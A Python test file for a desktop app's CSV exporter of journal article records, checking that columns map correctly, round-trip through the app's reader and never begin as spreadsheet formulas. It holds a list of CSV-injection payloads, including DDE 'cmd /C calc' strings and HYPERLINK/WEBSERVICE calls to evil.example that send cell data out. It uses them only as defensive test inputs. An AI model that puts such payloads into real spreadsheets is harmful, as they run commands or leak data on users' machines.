"""CSV tables: every cell in its column, and none of them a formula."""

import csv
from collections.abc import Callable, Iterable
from dataclasses import replace
from io import StringIO
from pathlib import Path
from typing import TextIO

import pytest

from desktop_app.exporters.csv_table import COLUMNS, write_csv, write_raw_csv
from desktop_app.exporters.plain_text import one_line
from desktop_app.importers.registry import read_file
from desktop_app.records import (
    Article,
    Author,
    Field,
    Heading,
    Identifier,
    Journal,
    Keyword,
    Qualifier,
    Reference,
    Relation,
    Section,
)
from tests.exporters.hostile_articles import CROWDED, HOSTILE, NASTY_TEXTS
from tests.library.examples import FULL

Write = Callable[[Iterable[Article], TextIO], None]

_ACTIONS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    "IMPORTXML(CONCAT(A1),A2)",
    'WEBSERVICE("http://evil.example")',
    "SUM(A1:A9)",
    "2+5+cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "A1",
    "5",
)
_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "\x00=")
PAYLOADS = [start + action for start in _STARTS for action in _ACTIONS]


def read(articles: Iterable[Article], write: Write = write_csv) -> list[dict[str, str]]:
    out = StringIO(newline="")
    write(articles, out)
    return list(csv.DictReader(StringIO(out.getvalue(), newline=""), strict=True))


def test_everything_has_its_column() -> None:
    (row,) = read([FULL])
    assert {name: value for name, value in row.items() if value} == {
        "PMID": "101",
        "PMCID": "PMC7001",
        "DOI": "10.1000/example.101",
        "Title": FULL.title,
        "Authors": "Smith, Jane A, Jr; The Mouse Group",
        "Journal": "Journal of Examples",
        "Journal abbreviation": "J Ex",
        "ISSN": "1234-5678",
        "Year": "2021",
        "Date": "2021-03",
        "Printed date": "2021 Mar-Apr",
        "Volume": "12",
        "Issue": "3-4",
        "Pages": "101-9",
        "Kind": "article",
        "Publication types": "Journal Article",
        "Languages": "eng; fre",
        "Abstract": "BACKGROUND: We asked why. METHODS: Mice were fed. "
        "RESULTS: Glucose rose (p<0.05).",
        "MeSH": "*Insulin Resistance/*genetics; Mice; Unlisted Heading/x/y",
        "Major MeSH": "Insulin Resistance",
        "Keywords": "metabolism",
        "Substances": "0 (Interleukin-6); 0 (Y)",
        "Vernacular title": "Résistance à l'insuline",
        "Other abstracts": "plain-language-summary (fre): Pour tous.",
        "Affiliations": "A; B",
        "ORCID": "Smith, Jane A, Jr: 0000-0002-1825-0097",
        "Other identifiers": "pii: S1",
        "Relations": "ErratumIn: J Ex 2022 see there PMID: 102",
        "References": "PMID 55; Roe 2000",
        "History": "received 2020-01-02; record-revised 2022-05-06",
        "Country": "England",
        "NLM journal": "0001",
        "Copyright": "© The authors",
        "Status": "MEDLINE",
        "Other fields": "publisher: Example Press; note: read this",
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula(payload: str) -> None:
    article = Article(
        title=payload,
        volume=payload,
        doi=payload,
        sections=(Section(payload),),
        journal=Journal(payload, payload, payload, payload, payload),
        authors=(Author(payload, payload, affiliations=(payload,)), Author(collective=payload)),
        keywords=(Keyword(payload),),
        languages=(payload,),
        status=payload,
        kind=payload,
    )
    (row,) = read([article])
    assert row["Title"] == f"'{one_line(payload)}"
    assert not [cell for cell in row.values() if cell[:1] in set("=+-@＝＋－＠\t\r\n")]
    (raw,) = read([article], write_raw_csv)
    assert raw["Title"] == one_line(payload)


def test_there_are_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 100


def test_hostile_text_stays_in_its_cell() -> None:
    rows = read(HOSTILE, write_raw_csv)
    assert len(rows) == len(HOSTILE)
    for article, row in zip(HOSTILE, rows, strict=True):
        assert list(row) == list(COLUMNS)
        assert row["Title"] == one_line(article.title)
        assert row["PMID"] == str(article.pmid or "")
    assert read([CROWDED])[0]["Authors"].count(";") == 2_999


def test_a_table_of_nothing_has_a_header() -> None:
    out = StringIO(newline="")
    write_csv([], out)
    assert out.getvalue() == ",".join(COLUMNS) + "\r\n"


# --- read back by our own reader ------------------------------------------------------------------

EXPORT = "export"
RICH = replace(
    FULL,
    title="-omics of 2'-O-methyl and none",
    journal=Journal("N/A", "+", "1234-5678", "0001", "England"),
    headings=(*FULL.headings, Heading("D000067", "Stress, Psychological", True)),
    keywords=(Keyword("metabolism"), Keyword("Stress, Psychological"), Keyword("Asthma/therapy")),
    other_abstracts=(
        Section("Short.", "key-points"),
        Section("Pour tous; vraiment.", "Publisher, fre"),
        Section("Warum.", "Publisher, ger: HINTERGRUND"),
    ),
    references=(
        Reference(pmid=55),
        Reference(doi="10.1/x"),
        Reference(pmcid="PMC5"),
        Reference("J Ex. 2005;13:1-2; see there"),
        Reference("Roe 2000"),
        Reference(pmid=56),
    ),
    relations=(
        Relation("ErratumIn", "J Ex 2022; see there", 102),
        Relation("CommentIn", "", 103),
        Relation("UpdateOf", "J Ex 2001"),
    ),
    identifiers=(
        Identifier("isbn", "978"),
        Identifier("url", "https://a.b/;c"),
        Identifier("pii", "S1"),
    ),
    authors=(*FULL.authors, Author(collective="Bethesda 2001 Workshop"), Author(collective="7")),
    fields=(Field("affiliation", "C"), Field("note", "one; two"), Field("extra column", "x: y")),
)


def again(folder: Path, articles: Iterable[Article], write: Write = write_csv) -> list[Article]:
    path = folder / "export.csv"
    with open(path, "w", encoding="utf-8", newline="") as out:
        write(articles, out)
    entries = list(read_file(path))
    return [entry for entry in entries if isinstance(entry, Article)]


@pytest.mark.parametrize("column", COLUMNS)
@pytest.mark.parametrize("article", [FULL, RICH], ids=["full", "rich"])
def test_every_column_comes_back(tmp_path: Path, column: str, article: Article) -> None:
    (found,) = again(tmp_path, [article])
    assert read([found])[0][column] == read([article])[0][column]


def test_what_comes_back_is_where_it_was(tmp_path: Path) -> None:
    (found,) = again(tmp_path, [RICH])
    same = "title pmid pmcid doi vernacular_title abstract_copyright journal date volume issue "
    same += "pages languages keywords other_abstracts references relations identifiers milestones "
    for name in (same + "status kind").split():
        assert getattr(found, name) == getattr(RICH, name), name
    assert found.abstract == RICH.abstract
    assert [section.label for section in found.sections] == ["BACKGROUND", "METHODS", "RESULTS"]
    assert found.headings == (
        Heading("", "Insulin Resistance", True, (Qualifier("", "genetics", True),), EXPORT),
        Heading("", "Mice", False, (), EXPORT),
        Heading("", "Unlisted Heading", False, (Qualifier("", "x"), Qualifier("", "y")), EXPORT),
        Heading("", "Stress, Psychological", True, (), EXPORT),
    )
    assert [kind.name for kind in found.publication_types] == ["Journal Article"]
    assert [one.name for one in found.substances] == ["Interleukin-6", "Y"]
    assert found.authors == (
        Author("Smith", "Jane A", "JA", "Jr", orcid="0000-0002-1825-0097"),
        *RICH.authors[1:],
    )
    assert found.fields == (Field("affiliation", "A; B; C"), *RICH.fields[1:])


@pytest.mark.parametrize("text", NASTY_TEXTS)
def test_nasty_text_comes_back(tmp_path: Path, text: str) -> None:
    line = one_line(text)
    article = Article(line, 1, sections=(Section(line),), abstract_copyright=line, volume=line)
    (found,) = again(tmp_path, [article])
    assert read([found]) == read([article])


def test_columns_that_the_user_added_and_spreadsheets_that_took_stars(tmp_path: Path) -> None:
    path = tmp_path / "edited.csv"
    path.write_text(
        "Title;PMID;MeSH;Major MeSH;Printed date;My Mark\nT;12;Mice; Rats;Mice;;yes\n".replace(
            "Mice; Rats", '"Mice; Rats"'
        )
    )
    (found,) = read_file(path)
    assert isinstance(found, Article)
    assert [(one.name, one.major) for one in found.headings] == [("Mice", True), ("Rats", False)]
    assert found.fields == (Field("my mark", "yes"),)


def test_cells_that_say_no_number_or_date_are_kept(tmp_path: Path) -> None:
    path = tmp_path / "edited.csv"
    path.write_text("Title,PMID,DOI,Year,Major MeSH,Printed date\nT,x12,none,soon,,\n")
    (found,) = read_file(path)
    assert isinstance(found, Article)
    assert (found.pmid, found.doi, found.date) == (None, "", None)
    assert found.fields == (Field("pmid", "x12"), Field("doi", "none"), Field("year", "soon"))
